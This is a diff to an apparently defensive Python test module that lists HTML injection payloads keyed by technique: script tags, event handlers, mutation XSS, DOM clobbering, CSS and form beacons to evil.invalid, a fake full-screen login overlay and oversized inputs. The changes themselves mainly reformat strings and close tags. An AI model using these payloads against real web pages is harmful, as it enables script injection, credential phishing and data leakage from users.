@@ -6,7 +6,9 @@ Programs set `__ran` on every window they can reach; addresses lead to `evil.inv
 from collections.abc import Mapping
 from typing import Final
 
-RUN: Final = "try{top.__ran=1}catch(e){};try{parent.__ran=1}catch(e){};window.__ran=1;new Image().src='http://evil.invalid/ran'"
+RUN: Final = (
+    "try{top.__ran=1}catch(e){};try{parent.__ran=1}catch(e){};window.__ran=1;new Image().src='http://evil.invalid/ran'"
+)
 _URL: Final = "http://evil.invalid"
 _DATA_PAGE: Final = "data:text/html,&lt;script&gt;top.__ran=1&lt;/script&gt;"
 
@@ -14,7 +16,7 @@ PAYLOADS: Final[Mapping[str, str]] = {
     "script": f"<script>{RUN}</script>",
     "script in head words": f"</title></textarea></style><script>{RUN}</script>",
     "script from elsewhere": f'<script src="{_URL}/a.js"></script><script type=module src="{_URL}/b.js"></script>',
-    "end of data": f'<p>words </script><script>{RUN}</script> &lt;/script&gt;&lt;script&gt;{RUN}&lt;/script&gt; <!-- <script></p>',
+    "end of data": f"<p>words </script><script>{RUN}</script> &lt;/script&gt;&lt;script&gt;{RUN}&lt;/script&gt; <!-- <script> --></p>",
     "handlers": f'<img src="{_URL}/x.png" onerror="{RUN}"><body onload="{RUN}" onpageshow="{RUN}"><p onmouseover="{RUN}">over</p>',
     "focus": f'<input autofocus onfocus="{RUN}"><select autofocus onfocus="{RUN}"></select><p tabindex=0 autofocus onfocus="{RUN}">f</p>',
     "animation handlers": f'<style>@keyframes k{{}}p{{animation:k 1s}}</style><p onanimationstart="{RUN}" ontransitionend="{RUN}">a</p>',
@@ -44,27 +46,27 @@ PAYLOADS: Final[Mapping[str, str]] = {
     f"content:url({_URL}/d.png);mask:url({_URL}/m.svg#m);--x:url({_URL}/v.png)}}p::after{{content:url({_URL}/e.png)}}"
     f'p{{background:image-set("{_URL}/s.png" 1x);width:expression({RUN});behavior:url({_URL}/h.htc)}}</style>'
     f'<p style="background:url({_URL}/z.png);font:url({_URL}/y)">styled</p>',
-    "style escapes": f"<style>p{{background:u\\72l({_URL}/k.png)}}}}</style><style>p{{color:red}} </sty</style>"
-    f"<style>a[b=\"}}*{{background:url({_URL}/q.png)}}\"]{{x:y}} @media x{{ {{ }} }} /*</style><style>*/p{{width:1px}}",
-    "cover": "<style>html,body,*{position:fixed!important;inset:0;z-index:2147483647!important;opacity:0;display:none!important;"
+    "style escapes": f"<style>p{{background:u\\72l({_URL}/k.png)}}}}</style><style>p{{color:red}} </sty }}</style>"
+    f'<style>a[b="}}*{{background:url({_URL}/q.png)}}"]{{x:y}} @media x{{ {{ }} }} /*</style><style>*/p{{width:1px}}</style>',
+    "cover": "<style>html,body,*{position:fixed!important;inset:0;z-index:2147483647!important;opacity:0!important;"
     "transform:scale(99)}@layer a{*{visibility:hidden!important}}</style>"
     '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:2147483647">log in</div>',
-    "huge layout": '<style>p{margin:99999px;padding:1e9px;height:9e9px;width:100000000px;letter-spacing:123456px}</style>'
+    "huge layout": "<style>p{margin:99999px;padding:1e9px;height:9e9px;width:100000000px;letter-spacing:123456px}</style>"
     '<p style="width:99999999px;margin-left:calc(1px*1e99)">wide</p>',
     "outline hiding": "<style>scraper-unknown,button,.mark,.marks,#marks,#card{display:none!important}</style>",
     "five megabytes": f'<img src="data:image/png;base64,{"A" * 5_000_000}"><p style="background:url(data:image/png;base64,{"B" * 50_000})">x</p>',
     "mutation": '<noscript><p title="</noscript><img src=x onerror=__ran=1>"></noscript>'
-    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.__ran=1></style></mglyph></form>'
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.__ran=1></style></mglyph></form>"
     '<svg></p><style><a id="</style><img src=1 onerror=top.__ran=1>"></svg><xmp><p title="</xmp><img src onerror=top.__ran=1>">'
     "<table><a href=x><tr><td></a><b><p>x</table><select><option><img src onerror=top.__ran=1></select><listing>&lt;img src onerror=top.__ran=1&gt;</listing>",
     "templates": f'<template><script>{RUN}</script><img src="{_URL}/t.png" onerror="{RUN}"></template>'
     f'<x-a><template shadowrootmode=open><script>{RUN}</script><img src="{_URL}/u.png"><p>in the shadow</p></template></x-a>',
-    "clobbering": '<form name=body id=body><input name=append id=append><input id=setAttribute name=appendChild></form>'
-    '<img name=documentElement><img name=head><img name=createElement id=createRange><a id=report name=report>r</a>'
-    '<form id=frame><input id=contentDocument name=children></form><p id=data>{}</p><p id=marks>m</p><p id=stage>s</p>',
+    "clobbering": "<form name=body id=body><input name=append id=append><input id=setAttribute name=appendChild></form>"
+    "<img name=documentElement><img name=head><img name=createElement id=createRange><a id=report name=report>r</a>"
+    "<form id=frame><input id=contentDocument name=children></form><p id=data>{}</p><p id=marks>m</p><p id=stage>s</p>",
     "forms": f'<form action="{_URL}/post" method=post target=_top><input name=q value=v><button formaction="{_URL}/g">send</button></form>'
     f'<a href="{_URL}/ping" ping="{_URL}/p" target=_blank download>ping</a>',
-    "dialogs": f'<dialog open>open<form method=dialog><button autofocus>x</button></form></dialog><script>alert(1)</script><p onclick="alert(1)">c</p>',
+    "dialogs": '<dialog open>open<form method=dialog><button autofocus>x</button></form></dialog><script>alert(1)</script><p onclick="alert(1)">c</p>',
     "names": f"<p{'/onclick=alert(1)'}>p</p><{'x' * 3000}>long</{'x' * 3000}><a$b onload=x>odd</a$b><o:p>office</o:p><ÄÖ>umlauts</ÄÖ><h1#x>h</h1#x>",
     "is and slots": '<button is="x-b">b</button><slot name=x>s</slot><input type=file><input type=password value=secret><object type=text/html>o</object>',
     "depth": "<div>" * 3000 + "deep" + "</div>" * 3000,
